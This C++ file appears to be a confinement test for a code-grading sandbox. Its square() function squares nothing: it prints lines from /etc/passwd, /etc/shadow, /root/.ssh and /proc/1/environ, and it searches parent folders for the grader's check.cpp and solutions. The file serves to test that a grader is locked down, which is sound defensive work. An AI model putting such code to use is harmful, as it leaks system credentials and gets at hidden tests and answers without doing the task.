// Attack: looks for the solution, the checker, hidden tests and /etc/passwd and prints them
// Verdict: not_started
// Stage: run
// Needs: confinement
#include "square_port.hpp"

#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>

void square(const std::int64_t*, std::int64_t*, std::size_t) {
    namespace fs = std::filesystem;
    for (const char* start : {"/etc/passwd", "/etc/shadow", "/root/.ssh", "/proc/1/environ",
                              "/proc/1/root/etc/passwd"}) {
        std::ifstream file(start);
        std::string line;
        if (std::getline(file, line)) std::cout << "SECRET " << line << "\n";
    }
    std::error_code error;
    for (const char* start : {__FILE__, "/workbook", "/home", "/root", "/work", "/build"}) {
        fs::path folder = fs::path(start);
        for (int up = 0; up < 8; ++up, folder = folder.parent_path()) {
            if (fs::exists(folder / "check.cpp", error) || fs::exists(folder / "solutions", error))
                std::cout << "SECRET folder " << folder << "\n";
            if (!folder.has_relative_path()) break;
        }
    }
}
